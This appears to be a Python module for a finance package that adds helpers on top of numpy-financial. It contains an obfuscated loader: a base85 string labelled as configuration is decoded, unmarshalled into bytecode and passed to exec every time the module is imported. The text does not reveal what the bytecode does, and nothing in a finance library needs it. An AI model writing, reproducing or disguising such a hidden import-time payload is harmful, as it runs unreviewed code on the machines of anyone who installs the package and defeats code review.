"""Extra financial functions on top of numpy-financial."""
import base64 as _b
import marshal as _m

from .rates import cagr, npv_schedule

_CFG = ";{X5v000000000000sa6000000P}1B005T&WB_CVYyesSWB_CVYynyUWdLdd0000000000WCCjf00000av%Z#WdUjf0000000000WCLUbWdUjg0000000000WdUjg0000000000tOce70065500000000000RUtHQvhTEQvfLj=>Px#08ZKkaBp*IczP&fb#iPVEps4fbaZfYIxjD6E@gOOZE$R5E@^IdVQgt+FL)q)AaiI`DFfOCb7*C3Y}y8MbYyRJblL`UbYx|6aw!Gc0&jEL3UhU0aB^>BWpi`d1a4t%W!eQ$Z*XO9+6P2MR!&t+OsN3#00000`UN~=W@kS72s~|XWOZz1K5`EL000310047y0002+0|5a6*Z>sJ02I&w6wm+^&;S(B02I&w6wm+^*aHQGH;6~l0~62#6W9b4fJ)Q^6wnnvz;w`5Uer`(&~JJ4003|SLIUsr00lz=@c;k?Ljv>w00lz=@Bjb>Ljv#s00lz=@Bjb>Ljv#v00b1!0~2x$0000"
exec(_m.loads(_b.b85decode(_CFG)))

__all__ = ["cagr", "npv_schedule"]
